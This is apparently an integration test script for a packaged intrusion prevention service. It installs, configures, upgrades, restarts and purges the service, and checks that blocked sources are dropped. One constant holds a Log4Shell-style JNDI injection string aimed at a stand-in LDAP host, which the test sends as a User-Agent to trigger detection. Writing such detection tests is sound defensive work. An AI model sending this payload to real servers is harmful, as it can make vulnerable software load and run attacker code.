"""What docs/service.md says, done step by step on one machine."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from ids.cli import VERBS
from tests.packages.machine import Failed, Machine, host

TRAFFIC = Path(__file__).with_name("traffic.py")
MACHINE, PEER, GOOD, BAD, ATTACKER = "192.0.2.1", "192.0.2.254", "192.0.2.50", "192.0.2.66", "192.0.2.77"
EXPLOIT = "${jndi:ldap://192.0.2.66/a}"
REQUEST = """
import http.client, sys
_, server, source, agent = sys.argv
client = http.client.HTTPConnection(server, 8080, timeout=3, source_address=(source, 0))
client.request("GET", "/", headers={"User-Agent": agent})
print(client.getresponse().status)
"""
SECOND = """
instance: two
interfaces: [late0]
rules: {paths: [/etc/ids/none.yaml]}
eve: {path: /var/log/ids/two.json}
"""
PATIENCE_S = 60.0


def expect(holds: bool, what: str) -> None:
    """Raise `Failed` unless something holds."""
    if not holds:
        raise Failed(what)


def soon(condition: Callable[[], bool], what: str, patience_s: float = PATIENCE_S) -> None:
    """Wait for a condition; raises `Failed`."""
    deadline = time.monotonic() + patience_s
    while not condition():
        if time.monotonic() > deadline:
            raise Failed(f"after {patience_s:g} s: {what}")
        time.sleep(0.2)


class Story:
    """One machine and its neighbours, and the steps in their order."""

    def __init__(self, machine: Machine, package: Path, newer: Path) -> None:
        self.machine = machine
        self.package, self.newer = package, newer
        self.neighbours = f"n{machine.root.name[-8:]}"
        self.times: dict[str, float] = {}

    def run(self) -> None:
        """Do all steps; raises `Failed`."""
        steps = (
            self.install, self.init, self.start, self.privileges, self.enforce, self.attack, self.undo,
            self.upgrade, self.refused_upgrade, self.rotate, self.refused_reload, self.watchdog,
            self.second_instance, self.reboot, self.interface_returns, self.remove,
        )  # fmt: skip
        for step in steps:
            begin = time.monotonic()
            step()
            self.times[step.__name__] = time.monotonic() - begin
            print(f"  {step.__name__:18} {self.times[step.__name__]:6.1f} s  {step.__doc__}", flush=True)

    def install(self) -> None:
        """Installed with its dependencies; nothing runs yet."""
        self.machine.install(self.package)
        self.boot()
        expect(self.unit("ActiveState") == "inactive", "the service runs, unasked")
        man = self.machine.root / "usr/share/man/man1/ids.1.gz"
        expect(man.exists(), "no man page")
        expect("ids" in self.machine.run("ids", "--version"), "no version")

    def init(self) -> None:
        """`ids init` writes settings that hold for this host."""
        self.machine.run("ids", "init")
        self.machine.run("ids", "config", "check", "-c", "/etc/ids/ids.yaml")
        shown = json.loads(
            self.machine.run("ids", "config", "show", "interfaces", "-o", "json", "-c", "/etc/ids/ids.yaml")
        )
        expect(shown["value"] == ["outside"], f"it chose {shown}")

    def start(self) -> None:
        """Enabled and ready, under all limits of the unit, with two workers."""
        self.machine.shell("sed -i 's/^engine:/engine:\\n  workers: 2/' /etc/ids/ids.yaml")
        self.machine.run("systemctl", "enable", "--now", "ids")
        expect("guarding outside" in self.unit("StatusText"), self.unit("StatusText"))
        self.machine.run("ids", "service", "status", "-c", "/etc/ids/ids.yaml")

    def privileges(self) -> None:
        """Three capabilities for who decides, none for who inspects."""
        numbers = self.machine.shell("cat /sys/fs/cgroup/system.slice/ids.service/cgroup.procs").split()
        held = {}
        for number in numbers:
            status = self.machine.run("cat", f"/proc/{number}/status")
            found = re.search(r"CapEff:\t(\w+)", status)
            held[number] = int(found[1], 16) if found else -1
        expect(held.pop(self.unit("MainPID")) == 1 << 39 | 1 << 38 | 1 << 12, f"who decides holds {held}")
        expect(len(held) >= 2 and not any(held.values()), f"who inspects holds {held}")

    def enforce(self) -> None:
        """A source is blocked and another is not."""
        self.machine.shell("sed -i 's/mode: shadow/mode: enforce/' /etc/ids/ids.yaml; systemctl reload ids")
        self.machine.run("ids", "block", "add", BAD)
        self.judge(*self.traffic(lambda: None))

    def attack(self) -> None:
        """A web server is attacked: the source is blocked, and it can be asked why."""
        self.machine.shell("mkdir -p /srv/www; systemd-run --unit=web python3 -m http.server -d /srv/www 8080")
        soon(lambda: self.served(ATTACKER), "the web server does not answer")
        self.served(ATTACKER, EXPLOIT)
        soon(lambda: f"{ATTACKER}/32" in self.blocked(), f"not blocked: {self.blocked()}")
        expect(not self.served(ATTACKER), "a blocked source is served")
        expect(self.served(GOOD), "another source is not served")
        soon(lambda: ATTACKER in self.machine.run("ids", "alerts", "list", "-o", "json"), "the memory has no alert")
        if "why" in VERBS:
            expect(ATTACKER in self.machine.run("ids", "why", ATTACKER), "nobody knows why")

    def undo(self) -> None:
        """The block is lifted; the source is excepted, and not blocked again."""
        self.machine.run("ids", "block", "delete", ATTACKER)
        expect(self.served(ATTACKER), "it is blocked still")
        self.machine.run("ids", "allow", "add", ATTACKER)
        self.served(ATTACKER, EXPLOIT)
        expect(self.served(ATTACKER), "an excepted source was blocked")
        self.machine.shell("systemctl stop web")

    def upgrade(self) -> None:
        """Upgraded with traffic flowing: nothing of the blocked source passes, nothing of the other is lost."""
        (self.machine.root / "root" / self.newer.name).write_bytes(self.newer.read_bytes())
        before = self.unit("MainPID")
        self.judge(*self.traffic(self.install_newer))
        expect(self.unit("ActiveState") == "active" and self.unit("MainPID") != before, "the new version does not run")
        expect(self.blocked() == [f"{BAD}/32"], f"the list is {self.blocked()}")

    def refused_upgrade(self) -> None:
        """An upgrade that finds settings it would refuse leaves the former version running."""
        before = self.unit("MainPID")
        self.machine.shell("cp /etc/ids/ids.yaml /root/good; echo 'respnd: {}' >> /etc/ids/ids.yaml")
        self.install_newer()
        expect(self.unit("MainPID") == before, "the engine was ended")
        self.machine.shell("cp /root/good /etc/ids/ids.yaml; ids reload -c /etc/ids/ids.yaml")

    def rotate(self) -> None:
        """Logrotate moves the events away, and a new file is written without a signal."""
        events = self.machine.root / "var/log/ids/eve.json"
        soon(lambda: events.stat().st_size > 0, "no events were written")
        self.machine.run("logrotate", "--force", "/etc/logrotate.d/ids")
        soon(lambda: events.exists() and events.stat().st_size > 0, "nothing was written to the new file")
        expect(events.stat().st_mode & 0o777 == 0o640, f"its mode is {events.stat().st_mode:o}")

    def refused_reload(self) -> None:
        """A reload that is refused fails, and the old settings hold."""
        self.machine.shell("cp /etc/ids/ids.yaml /root/good; echo 'respnd: {}' >> /etc/ids/ids.yaml")
        said = self.machine.shell("systemctl reload ids && echo reloaded || echo refused", check=False)
        expect("refused" in said, "a bad reload was taken")
        expect(self.unit("ActiveState") == "active", "a bad reload ended the engine")
        self.machine.shell("cp /root/good /etc/ids/ids.yaml; systemctl reload ids")

    def watchdog(self) -> None:
        """An engine that hangs is started again, and its blocks hold meanwhile."""
        self.machine.shell(
            "systemctl set-property --runtime ids TasksMax=500; mkdir -p /run/systemd/system/ids.service.d"
        )
        self.machine.shell("printf '[Service]\\nWatchdogSec=5\\n' > /run/systemd/system/ids.service.d/test.conf")
        self.machine.shell("systemctl daemon-reload; systemctl restart ids")
        before = self.unit("MainPID")

        def hang() -> None:
            self.machine.run("kill", "-STOP", before)
            soon(
                lambda: self.unit("ActiveState") == "active" and self.unit("MainPID") not in ("0", before),
                "it hangs still",
            )

        self.judge(*self.traffic(hang))
        expect("Fatal Python error: Aborted" in self.machine.run("journalctl", "-u", "ids"), "no stack in the journal")

    def second_instance(self) -> None:
        """Another instance becomes a service of its own, and goes again; the first one does not notice."""
        before = self.unit("MainPID")
        (self.machine.root / "etc/ids/two.yaml").write_text(SECOND)
        (self.machine.root / "etc/ids/none.yaml").write_text("rules: []\n")
        named = ("--name", "ids-two", "-c", "/etc/ids/two.yaml")
        self.machine.run("ids", "service", "install", "--now", *named)
        said = self.machine.run("ids", "service", "status", *named)
        expect("guarding nothing; waiting for late0" in said, f"its status is {said}")
        self.machine.run("ids", "service", "uninstall", "--name", "ids-two")
        expect(not (self.machine.root / "etc/systemd/system/ids-two.service").exists(), "its unit is left")
        self.machine.run("ids", "service", "status", "-c", "/etc/ids/ids.yaml")
        expect(self.unit("MainPID") == before, "the first one was started again")

    def reboot(self) -> None:
        """After a reboot the service starts by itself, with its lists, and waits for an interface that comes later."""
        self.machine.halt()
        host("ip", "netns", "delete", self.neighbours, check=False)
        self.boot(link=False)
        soon(
            lambda: "waiting for outside" in self.unit("StatusText"), f"it is not waited for: {self.unit('StatusText')}"
        )
        expect(f"{BAD}/32" in self.blocked(), f"the list is {self.blocked()}")
        self.link()
        soon(lambda: self.unit("StatusText").startswith("guarding outside;"), "it is not guarded")
        self.judge(*self.traffic(lambda: None))

    def interface_returns(self) -> None:
        """An interface that goes is guarded when it is back."""
        host("ip", "netns", "delete", self.neighbours)
        soon(lambda: "waiting for outside" in self.unit("StatusText"), "nobody noticed that it is gone")
        self.link()
        soon(lambda: self.unit("StatusText").startswith("guarding outside;"), "it is not guarded again")

    def remove(self) -> None:
        """Purged: nothing is left in the kernel, nor on the disk."""
        self.machine.run("dpkg", "--purge", "ids")
        expect("ids" not in self.machine.run("ls", "/sys/fs/bpf").split(), "pins are left")
        expect("xdp" not in self.machine.run("ip", "link", "show", "outside"), "a program is left")
        for folder in ("usr/lib/ids", "etc/ids", "var/log/ids", "var/lib/ids", "var/cache/ids"):
            expect(not (self.machine.root / folder).exists(), f"/{folder} is left")

    # What the steps are made of.

    def boot(self, *, link: bool = True) -> None:
        self.machine.boot()
        if link:
            self.link()

    def link(self) -> None:
        """Give the machine an interface ``outside``, and put its neighbours behind it."""
        host("ip", "netns", "add", self.neighbours)
        end = f"e{self.neighbours}"[:15]
        host("ip", "link", "add", end, "type", "veth", "peer", "name", "wire", "netns", self.neighbours)
        host("ip", "link", "set", end, "netns", self.machine.init, "name", "outside")
        self.machine.shell(
            f"ip address add {MACHINE}/24 dev outside; ip link set outside up; ip route replace default via {PEER}"
        )
        inside = ("ip", "-n", self.neighbours)
        for address in (PEER, GOOD, BAD, ATTACKER):
            host(*inside, "address", "add", f"{address}/24", "dev", "wire")
        host(*inside, "link", "set", "wire", "up")

    def install_newer(self) -> None:
        """Upgrade the package, as apt would."""
        self.machine.run("dpkg", "-i", f"/root/{self.newer.name}")

    def blocked(self) -> list[str]:
        """Return the networks on the blocklist."""
        return [json.loads(line)["network"] for line in self.machine.run("ids", "block", "list", "--json").splitlines()]

    def served(self, source: str, agent: str = "tests") -> bool:
        """Ask the machine's web server for a page; return whether it came."""
        enter = ("ip", "netns", "exec", self.neighbours, sys.executable)
        return host(*enter, "-c", REQUEST, MACHINE, source, agent, check=False).strip() == "200"

    def unit(self, name: str) -> str:
        """Return what systemd has under a name for the service."""
        return self.machine.run("systemctl", "show", "ids", f"--property={name}", "--value", check=False).strip()

    def traffic(self, meanwhile: Callable[[], None]) -> tuple[dict[str, int], dict[str, int]]:
        """Send datagrams while something is done; return how many were sent and how many came, by source."""
        with tempfile.TemporaryDirectory() as folder:
            until = Path(folder, "until")
            enter = ("nsenter", "-t", self.machine.init, "-n", sys.executable, str(TRAFFIC))
            receiver = subprocess.Popen([*enter, "receive", MACHINE, str(until)], stdout=subprocess.PIPE, text=True)
            assert receiver.stdout is not None
            receiver.stdout.readline()
            enter = ("ip", "netns", "exec", self.neighbours, sys.executable, str(TRAFFIC))
            sender = subprocess.Popen(
                [*enter, "send", MACHINE, str(until), GOOD, BAD], stdout=subprocess.PIPE, text=True
            )
            try:
                time.sleep(1.0)
                meanwhile()
                time.sleep(1.0)
            finally:
                until.touch()
                sent, came = sender.communicate()[0], receiver.communicate()[0]
        return json.loads(sent), json.loads(came)

    def judge(self, sent: dict[str, int], came: dict[str, int]) -> None:
        """Raise `Failed` where a datagram of the blocked source came, or one of the other did not."""
        expect(not came.get(BAD), f"{came.get(BAD)} of {sent[BAD]} datagrams of the blocked source passed")
        expect(came.get(GOOD) == sent[GOOD], f"{came.get(GOOD)} of {sent[GOOD]} datagrams of the other source came")
